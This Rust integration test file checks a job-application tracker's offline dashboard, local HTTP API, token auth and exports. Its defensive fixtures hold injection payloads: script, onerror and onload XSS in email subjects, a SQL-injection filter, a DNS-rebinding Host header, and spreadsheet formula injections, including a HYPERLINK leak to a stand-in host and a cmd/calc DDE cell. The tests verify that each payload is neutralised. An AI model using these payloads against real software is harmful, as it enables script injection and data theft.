//! The dashboard, the API and the exports, as a person uses them: a run on a
//! mailbox with hostile subjects writes `site/`, which headless Chromium
//! loads from `file://` and drives (sort, filter, search, timeline);
//! `jobtrack serve` answers `GET /applications`; exports keep their rows.

use std::path::{Path, PathBuf};
use std::process::Command;

use jobtrack_testkit::services_required;

use crate::cli::{jobtrack, ok};

/// The bundled sample plus application mail whose subjects and bodies try
/// to inject markup.
fn hostile_mailbox(dir: &Path) -> PathBuf {
    let mut text = String::from_utf8(
        std::fs::read(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../samples/sample.mbox"
        ))
        .unwrap(),
    )
    .unwrap();
    text.push_str(
        "\nFrom no-reply@us.greenhouse-mail.io Mon Mar  3 10:00:00 2025\n\
From: Evil Corp Recruiting <no-reply@us.greenhouse-mail.io>\n\
To: Alex Doe <alex.doe@example.net>\n\
Subject: Thank you for applying to Evil Corp <script>alert(1)</script>\n\
Date: Mon, 03 Mar 2025 10:00:00 +0000\n\
Message-ID: <hostile-1@greenhouse-mail.io>\n\
Content-Type: text/plain; charset=utf-8\n\
\n\
Hi Alex,\n\
\n\
Thank you for applying for the Security Engineer role at Evil Corp. <img src=x onerror=alert(2)>\n\
We have received your application and will review it shortly.\n\
\n\
From no-reply@us.greenhouse-mail.io Mon Mar 10 10:00:00 2025\n\
From: Evil Corp Recruiting <no-reply@us.greenhouse-mail.io>\n\
To: Alex Doe <alex.doe@example.net>\n\
Subject: Your application to Evil Corp \"><svg onload=alert(3)>\n\
Date: Mon, 10 Mar 2025 10:00:00 +0000\n\
Message-ID: <hostile-2@greenhouse-mail.io>\n\
Content-Type: text/plain; charset=utf-8\n\
\n\
Hi Alex,\n\
\n\
Thank you for your interest in the Security Engineer role at Evil Corp. Unfortunately,\n\
we have decided not to move forward with your application at this time.\n\
\n",
    );
    let path = dir.join("hostile.mbox");
    std::fs::write(&path, text).unwrap();
    path
}

fn chromium() -> Option<PathBuf> {
    ["chromium", "chromium-browser", "google-chrome"]
        .iter()
        .find_map(|name| {
            let out = Command::new("which").arg(name).output().ok()?;
            out.status
                .success()
                .then(|| PathBuf::from(String::from_utf8_lossy(&out.stdout).trim()))
        })
}

fn sql_json(dir: &Path, query: &str) -> serde_json::Value {
    serde_json::from_str(&ok(dir, &["sql", query, "--format", "json"])).unwrap()
}

#[test]
fn the_dashboard_renders_every_application_offline_and_shows_hostile_subjects_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let mbox = hostile_mailbox(dir.path());
    ok(
        dir.path(),
        &["run", "--source", &format!("mbox:{}", mbox.display())],
    );
    let site = dir.path().join("jobtrack-data/site");
    for f in ["index.html", "app.js", "style.css", "data.js"] {
        assert!(site.join(f).is_file(), "{f} missing");
    }
    // Nothing the page loads points off the machine.
    let index = std::fs::read_to_string(site.join("index.html")).unwrap();
    assert!(index.contains("<script src=\"data.js\"></script>"));
    assert!(!index.contains("http://") && !index.contains("https://"));
    let app = std::fs::read_to_string(site.join("app.js")).unwrap();
    for banned in [
        "fetch(",
        "XMLHttpRequest",
        "innerHTML",
        "WebSocket",
        "import(",
    ] {
        assert!(!app.contains(banned), "app.js uses {banned}");
    }
    let data = std::fs::read_to_string(site.join("data.js")).unwrap();
    assert!(!data.contains("<script>"), "data.js holds raw markup");

    let ids = sql_json(
        dir.path(),
        "select application_id from applications order by application_id",
    );
    let mut expected: Vec<String> = ids
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["application_id"].as_str().unwrap().to_string())
        .collect();
    expected.sort();
    assert!(expected.len() >= 5, "{ids}");

    let Some(chromium) = chromium() else {
        assert!(
            !services_required(),
            "chromium is required (JOBTRACK_REQUIRE_SERVICES=1)"
        );
        eprintln!("SKIPPED: chromium is not installed");
        return;
    };
    let r = selftest(&chromium, dir.path(), &site, None);
    let c = &r["checks"];
    assert_eq!(r["errors"], serde_json::json!([]), "page errors: {r}");
    assert_eq!(c["ready"], true, "{r}");
    let rows: Vec<String> = c["row_ids"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect();
    assert_eq!(rows, expected, "one row per application");
    assert_eq!(c["sorted_asc"], true, "{r}");
    assert_eq!(c["sorted_desc"], true, "{r}");
    assert_eq!(c["filtered"], c["filtered_expected"], "{r}");
    assert!(c["filtered"].as_u64().unwrap() >= 1, "{r}");
    assert_eq!(c["filtered_all_match"], true, "{r}");
    assert_eq!(c["search"], serde_json::json!(["Hooli"]), "{r}");
    assert_eq!(c["since_future"], 0, "{r}");
    assert_eq!(c["timeline_open"], true, "{r}");
    assert_eq!(c["timeline_events"], c["timeline_expected"], "{r}");
    assert!(c["timeline_events"].as_u64().unwrap() >= 1, "{r}");
    assert!(
        c["timeline_links"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l.as_str().unwrap().starts_with("mid:")),
        "{r}"
    );
    let hostile = c["hostile"].as_array().unwrap();
    assert!(hostile.len() >= 2, "hostile subjects reach the page: {r}");
    for h in hostile {
        assert_eq!(h["shown"], true, "{h}");
        assert_eq!(h["injected"], 0, "{h}");
    }
    assert!(hostile.iter().any(|h| {
        h["text"]
            .as_str()
            .unwrap()
            .contains("<script>alert(1)</script>")
    }));
    // data.js, app.js and the test's two: nothing was injected.
    assert_eq!(c["scripts"], 4, "{r}");
    assert_eq!(c["alerts"], 0, "{r}");
    assert_eq!(c["remote_resources"], serde_json::json!([]), "{r}");
    assert!(
        c["charts"]
            .as_array()
            .unwrap()
            .iter()
            .all(|n| n.as_u64().unwrap() >= 1),
        "{r}"
    );
    assert_sankey_matches(dir.path(), &r);
    assert_eq!(c["near"], c["near_expected"], "{r}");
}

/// Runs the dashboard in `site` in headless Chromium (at `window`'s size,
/// or Chromium's default) with the test's self-test scripts around the
/// page's own, and returns what the self-test saw.
fn selftest(
    chromium: &Path,
    dir: &Path,
    site: &Path,
    window: Option<(u32, u32)>,
) -> serde_json::Value {
    let index = std::fs::read_to_string(site.join("index.html")).unwrap();
    // A copy of the site with the test's two scripts around the page's own.
    let page_dir = dir.join("page");
    std::fs::create_dir_all(&page_dir).unwrap();
    for f in ["app.js", "style.css", "data.js"] {
        std::fs::copy(site.join(f), page_dir.join(f)).unwrap();
    }
    let here = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/dashboard");
    for f in ["selftest-hook.js", "selftest.js"] {
        std::fs::copy(here.join(f), page_dir.join(f)).unwrap();
    }
    let page = index
        .replace(
            "<link rel=\"stylesheet\"",
            "<script src=\"selftest-hook.js\"></script>\n<link rel=\"stylesheet\"",
        )
        .replace(
            "<script src=\"app.js\"></script>",
            "<script src=\"app.js\"></script>\n<script src=\"selftest.js\"></script>",
        );
    std::fs::write(page_dir.join("index.html"), page).unwrap();
    let profile = dir.join("chromium-profile");
    let mut args = chromium_args(&profile);
    if let Some((w, h)) = window {
        // Headless Chromium's window is at least 500 pixels wide: a phone's
        // narrower CSS width comes from a larger device scale factor.
        let scale = 500.0 / f64::from(w.min(500));
        args.push(format!(
            "--window-size={},{}",
            w.max(500),
            (f64::from(h) * scale) as u32
        ));
        args.push(format!("--force-device-scale-factor={scale}"));
    }
    args.push("--dump-dom".into());
    args.push(format!("file://{}", page_dir.join("index.html").display()));
    let out = Command::new(chromium).args(&args).output().unwrap();
    let dom = String::from_utf8_lossy(&out.stdout);
    let start = dom.find("<pre id=\"selftest-result\">").unwrap_or_else(|| {
        panic!(
            "no self-test result in the page: {}\n{dom}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    let body = &dom[start + "<pre id=\"selftest-result\">".len()..];
    let body = &body[..body.find("</pre>").unwrap()];
    let body = body
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&amp;", "&");
    serde_json::from_str(&body).unwrap()
}

/// Headless Chromium, offline and quiet, with its own profile.
fn chromium_args(profile: &Path) -> Vec<String> {
    [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-dev-shm-usage",
        "--hide-scrollbars",
        "--virtual-time-budget=5000",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain([format!("--user-data-dir={}", profile.display())])
    .collect()
}

/// The Sankey's bands add up to the warehouse's applications per status.
fn assert_sankey_matches(dir: &Path, r: &serde_json::Value) {
    let counts = sql_json(
        dir,
        "select count(*) as total, \
         count(*) filter (where current_status = 'rejected') as rejected, \
         count(*) filter (where current_status = 'withdrawn') as withdrawn, \
         count(*) filter (where current_status = 'offer') as offers, \
         count(*) filter (where current_status not in ('rejected', 'withdrawn', 'offer') and stalled) as stalled, \
         count(*) filter (where current_status not in ('rejected', 'withdrawn', 'offer') and not stalled) as waiting \
         from applications",
    );
    let want = &counts[0];
    let got = &r["checks"]["sankey"];
    assert_eq!(got["from_applied"], want["total"], "{got} vs {want}");
    for k in ["rejected", "withdrawn", "stalled", "waiting", "offers"] {
        assert_eq!(got[k], want[k], "{k}: {got} vs {want}");
    }
    assert_eq!(got["offers_drawn"], want["offers"], "{got}");
    assert_eq!(got["conserved"], true, "{got}");
    assert!(got["flows"].as_u64().unwrap() >= 2, "{got}");
}

#[test]
fn the_sample_dashboard_draws_its_funnel_fits_a_phone_and_is_screenshot() {
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), &["run"]);
    let site = dir.path().join("jobtrack-data/site");
    let Some(chromium) = chromium() else {
        assert!(
            !services_required(),
            "chromium is required (JOBTRACK_REQUIRE_SERVICES=1)"
        );
        eprintln!("SKIPPED: chromium is not installed");
        return;
    };
    // As narrow as headless Chromium's window goes (500 pixels; phones are
    // 360 to 430).
    let r = selftest(&chromium, dir.path(), &site, Some((500, 900)));
    assert_eq!(r["errors"], serde_json::json!([]), "page errors: {r}");
    let c = &r["checks"];
    assert!(c["window_width"].as_u64().unwrap() <= 520, "{r}");
    assert!(
        c["page_width"].as_u64().unwrap() <= c["window_width"].as_u64().unwrap(),
        "the page is wider than a phone: {r}"
    );
    assert_sankey_matches(dir.path(), &r);
    // The README's screenshot: the sample run's dashboard, desktop width.
    let shot = Path::new(env!("CARGO_TARGET_TMPDIR")).join("dashboard.png");
    let mut args = chromium_args(&dir.path().join("shot-profile"));
    args.push("--window-size=1200,1500".into());
    args.push(format!("--screenshot={}", shot.display()));
    args.push(format!("file://{}", site.join("index.html").display()));
    let out = Command::new(&chromium).args(&args).output().unwrap();
    let png = std::fs::read(&shot).unwrap_or_else(|e| {
        panic!(
            "no screenshot ({e}): {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    assert!(
        png.starts_with(b"\x89PNG\r\n\x1a\n") && png.len() > 20_000,
        "{} bytes",
        png.len()
    );
    eprintln!("The sample dashboard's screenshot: {}", shot.display());
}

#[test]
fn exports_keep_the_warehouse_row_count_and_filters_apply() {
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), &["run"]);
    let total = sql_json(dir.path(), "select count(*) as n from applications")[0]["n"]
        .as_u64()
        .unwrap();
    let parquet = dir.path().join("apps.parquet");
    ok(
        dir.path(),
        &[
            "export",
            "--table",
            "applications",
            "--format",
            "parquet",
            "--out",
            parquet.to_str().unwrap(),
        ],
    );
    let csv = dir.path().join("apps.csv");
    let stdout = ok(
        dir.path(),
        &[
            "export",
            "--format",
            "csv",
            "--status",
            "rejected",
            "--out",
            csv.to_str().unwrap(),
        ],
    );
    assert!(stdout.contains("Wrote 1 rows of applications"), "{stdout}");
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(
        text.starts_with("\u{feff}application_id,user_id,company_name"),
        "{text}"
    );
    assert_eq!(text.lines().count(), 2, "{text}");
    assert!(text.contains(",2025-01-06,rejected,"), "ISO dates: {text}");

    let since = ok(
        dir.path(),
        &[
            "export",
            "--format",
            "json",
            "--since",
            "2025-01-10",
            "--out",
            dir.path().join("since.json").to_str().unwrap(),
        ],
    );
    assert!(since.contains("Wrote 2 rows"), "{since}");
    let bad = jobtrack(
        dir.path(),
        &[
            "export",
            "--format",
            "csv",
            "--since",
            "last week",
            "--out",
            "x.csv",
        ],
    );
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("is not a date"));

    let probe = Command::new("python3")
        .args(["-c", "import duckdb"])
        .output();
    if !probe.is_ok_and(|o| o.status.success()) {
        assert!(!services_required(), "python3 with duckdb is required");
        eprintln!("SKIPPED: python duckdb check (python3 with duckdb is not installed)");
        return;
    }
    let script = "import duckdb, sys\n\
        print(duckdb.connect().execute(f\"select count(*) from read_parquet('{sys.argv[1]}')\").fetchone()[0])\n\
        con = duckdb.connect(sys.argv[2], read_only=True)\n\
        print(con.execute('select count(*) from applications').fetchone()[0])\n\
        print(con.execute('select count(*) from response_by_source').fetchone()[0] > 0)\n";
    let out = Command::new("python3")
        .args([
            "-c",
            script,
            parquet.to_str().unwrap(),
            dir.path()
                .join("jobtrack-data/warehouse.duckdb")
                .to_str()
                .unwrap(),
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        format!("{total}\n{total}\nTrue\n")
    );
}

/// One HTTP/1.1 GET over a plain socket: status code and body.
fn http_get(addr: &str, path: &str) -> (u16, String) {
    let (code, _, body) = http_request(addr, path, addr, "");
    (code, body)
}

/// A GET with the given Host header and extra header lines (each ending in
/// CRLF); returns the status, the head and the body.
fn http_request(addr: &str, path: &str, host: &str, extra: &str) -> (u16, String, String) {
    http_call("GET", addr, path, host, extra, "")
}

/// A request of `method` with `body`; returns the status, head and body.
pub(crate) fn http_call(
    method: &str,
    addr: &str,
    path: &str,
    host: &str,
    extra: &str,
    body: &str,
) -> (u16, String, String) {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    write!(
        s,
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut raw = Vec::new();
    s.read_to_end(&mut raw).unwrap();
    let text = String::from_utf8_lossy(&raw).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap();
    let code = head.split_whitespace().nth(1).unwrap().parse().unwrap();
    let chunked = head
        .to_ascii_lowercase()
        .contains("transfer-encoding: chunked");
    let body = if chunked {
        dechunk(body)
    } else {
        body.to_string()
    };
    (code, head.to_string(), body)
}

/// A chunked body, decoded.
fn dechunk(body: &str) -> String {
    let mut out = String::new();
    let mut rest = body;
    while let Some((size, tail)) = rest.split_once("\r\n") {
        let n = usize::from_str_radix(size.trim(), 16).unwrap();
        if n == 0 {
            break;
        }
        out.push_str(&tail[..n]);
        rest = &tail[n + 2..];
    }
    out
}

/// A running `jobtrack serve`, stopped however the test ends.
pub(crate) struct Server(std::process::Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Starts `jobtrack serve ARGS` in `dir` with `env`; returns it and the
/// first line it prints (the address it listens on).
/// The `host:port` a `serve` start line announces.
pub(crate) fn address(line: &str) -> String {
    line.split("http://")
        .nth(1)
        .and_then(|s| s.split('/').next())
        .unwrap_or_else(|| panic!("no address in {line:?}"))
        .to_string()
}

pub(crate) fn serve(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> (Server, String) {
    use std::io::BufRead;
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_jobtrack"));
    cmd.arg("serve")
        .args(args)
        .current_dir(dir)
        .env("RUST_LOG", "warn")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let mut server = Server(cmd.spawn().unwrap());
    let mut line = String::new();
    std::io::BufReader::new(server.0.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    (server, line)
}

#[test]
fn serve_answers_the_read_only_api() {
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), &["run"]);
    let (_server, line) = serve(dir.path(), &["--port", "0"], &[]);
    let addr = address(&line);
    let get = |path: &str| http_get(&addr, path);

    let (code, body) = get("/applications");
    assert_eq!(code, 200, "{body}");
    let list: serde_json::Value = serde_json::from_str(&body).unwrap();
    let total = sql_json(dir.path(), "select count(*) as n from applications")[0]["n"].clone();
    assert_eq!(list["total"], total);
    let apps = list["applications"].as_array().unwrap();
    assert_eq!(apps.len() as u64, total.as_u64().unwrap());
    assert!(apps.iter().all(|a| a["application_id"].is_string()));

    let (_, body) = get("/applications?status=rejected&limit=10");
    let rejected: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(rejected["total"], 1, "{rejected}");
    assert_eq!(rejected["applications"][0]["company_name"], "Acme");
    // Parameters are data: a quote in a filter is just a character.
    let (code, body) = get("/applications?company=x%27%20OR%20%271%27%3D%271");
    assert_eq!(code, 200, "{body}");
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&body).unwrap()["total"],
        0
    );

    let id = rejected["applications"][0]["application_id"]
        .as_str()
        .unwrap()
        .to_string();
    let (code, body) = get(&format!("/applications/{id}"));
    assert_eq!(code, 200, "{body}");
    let one: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(one["application"]["application_id"], id.as_str());
    assert_eq!(one["events"].as_array().unwrap().len(), 2, "{one}");
    assert_eq!(one["emails"].as_array().unwrap().len(), 2, "{one}");
    assert_eq!(get("/applications/nope").0, 404);
    assert_eq!(get("/applications?since=yesterday").0, 400);

    let (code, csv) = get("/export.csv?status=rejected");
    assert_eq!(code, 200);
    assert_eq!(csv.lines().count(), 2, "{csv}");
    let (code, page) = get("/");
    assert_eq!(code, 200);
    assert!(page.contains("<title>Job applications"), "{page}");
    assert_eq!(get("/data.js").0, 200);
    assert_eq!(get("/../warehouse.duckdb").0, 404);
    assert_eq!(get("/warehouse.duckdb").0, 404);

    // A page on another site that made its name resolve to 127.0.0.1 (DNS
    // rebinding) sends its own name as Host: refused.
    let port = addr.rsplit(':').next().unwrap();
    for host in ["evil.example", &format!("evil.example:{port}")] {
        let (code, _, body) = http_request(&addr, "/applications", host, "");
        assert_eq!(code, 403, "{host}: {body}");
        assert!(!body.contains("application_id"), "{body}");
    }
    assert_eq!(
        http_request(&addr, "/export.csv", &format!("localhost:{port}"), "").0,
        200
    );
    // Every answer, refusals too, carries the security headers.
    for path in ["/", "/applications", "/nope"] {
        let (_, head, _) = http_request(&addr, path, &addr, "");
        let head = head.to_ascii_lowercase();
        for want in [
            "content-security-policy: default-src 'none'",
            "frame-ancestors 'none'",
            "x-content-type-options: nosniff",
            "referrer-policy: no-referrer",
            "cache-control: no-store",
        ] {
            assert!(head.contains(want), "{path}: no {want} in {head}");
        }
    }
}

#[test]
fn serve_off_loopback_needs_a_token_and_checks_it() {
    let dir = tempfile::tempdir().unwrap();
    ok(dir.path(), &["run"]);
    let refused = jobtrack(dir.path(), &["serve", "--bind", "0.0.0.0", "--port", "0"]);
    assert_eq!(refused.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("--token-env"), "{stderr}");

    let (_server, line) = serve(
        dir.path(),
        &[
            "--bind",
            "0.0.0.0",
            "--port",
            "0",
            "--token-env",
            "SERVE_TOKEN",
        ],
        &[("SERVE_TOKEN", "s3cret-token")],
    );
    let port = line
        .rsplit(':')
        .next()
        .and_then(|s| s.split('/').next())
        .unwrap_or_else(|| panic!("no port in {line:?}"))
        .to_string();
    let addr = format!("127.0.0.1:{port}");
    // Any host name goes off loopback; the token is what counts.
    let (code, _, _) = http_request(&addr, "/applications", "laptop.lan", "");
    assert_eq!(code, 401);
    let wrong = "Authorization: Bearer s3cret-tokem\r\n";
    assert_eq!(
        http_request(&addr, "/applications", "laptop.lan", wrong).0,
        401
    );
    let right = "Authorization: Bearer s3cret-token\r\n";
    let (code, _, body) = http_request(&addr, "/applications", "laptop.lan", right);
    assert_eq!(code, 200, "{body}");
    // The token as a query parameter works on the API too.
    let (code, _, body) = http_request(
        &addr,
        "/applications?token=s3cret-token&limit=1",
        "laptop.lan",
        "",
    );
    assert_eq!(code, 200, "{body}");
    // In a browser: ?token= once sets a cookie that later requests carry.
    let (code, head, _) = http_request(&addr, "/?token=s3cret-token", "laptop.lan", "");
    assert_eq!(code, 200);
    let cookie = head
        .lines()
        .find_map(|l| {
            l.strip_prefix("set-cookie: ")
                .or_else(|| l.strip_prefix("Set-Cookie: "))
        })
        .unwrap_or_else(|| panic!("no cookie in {head}"));
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    let pair = cookie.split(';').next().unwrap();
    let (code, _, _) = http_request(
        &addr,
        "/data.js",
        "laptop.lan",
        &format!("Cookie: {pair}\r\n"),
    );
    assert_eq!(code, 200);
}

#[test]
fn a_csv_export_neutralizes_cells_a_spreadsheet_would_run() {
    let dir = tempfile::tempdir().unwrap();
    let mail = dir.path().join("mail");
    std::fs::create_dir_all(&mail).unwrap();
    let subjects = [
        "=HYPERLINK(\"http://x.example/?leak\",\"Your application\")",
        "+1 555 0100 called about the role",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3 interview slots",
        "Your application to Acme",
    ];
    for (i, subject) in subjects.iter().enumerate() {
        std::fs::write(
            mail.join(format!("{i}.eml")),
            format!(
                "From: Acme Careers <jobs@acme.example>\r\nTo: me@example.net\r\n\
                 Subject: {subject}\r\nDate: Mon, 2 Nov 2026 10:0{i}:00 +0000\r\n\
                 Message-ID: <csv-{i}@acme.example>\r\n\r\nThank you for applying.\r\n"
            ),
        )
        .unwrap();
    }
    ok(dir.path(), &["run", "--source", "eml:mail"]);
    ok(
        dir.path(),
        &[
            "export",
            "--table",
            "emails",
            "--format",
            "csv",
            "--out",
            "emails.csv",
        ],
    );
    let script = "import csv, sys\n\
        rows = list(csv.DictReader(open(sys.argv[1], encoding='utf-8-sig', newline='')))\n\
        for r in rows: print(r['subject'])\n";
    let out = Command::new("python3")
        .args([
            "-c",
            script,
            dir.path().join("emails.csv").to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cells: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_string)
        .collect();
    assert_eq!(cells.len(), subjects.len(), "{cells:?}");
    for subject in subjects {
        let want = if subject.starts_with(['=', '+', '-', '@']) {
            format!("'{subject}")
        } else {
            subject.to_string()
        };
        assert!(cells.contains(&want), "{want:?} not in {cells:?}");
    }
    // The warehouse keeps the subject as it came: only the export is changed.
    let json = ok(
        dir.path(),
        &[
            "sql",
            "select subject from emails where subject like '=%'",
            "--format",
            "json",
        ],
    );
    assert!(json.contains("=HYPERLINK"), "{json}");
}
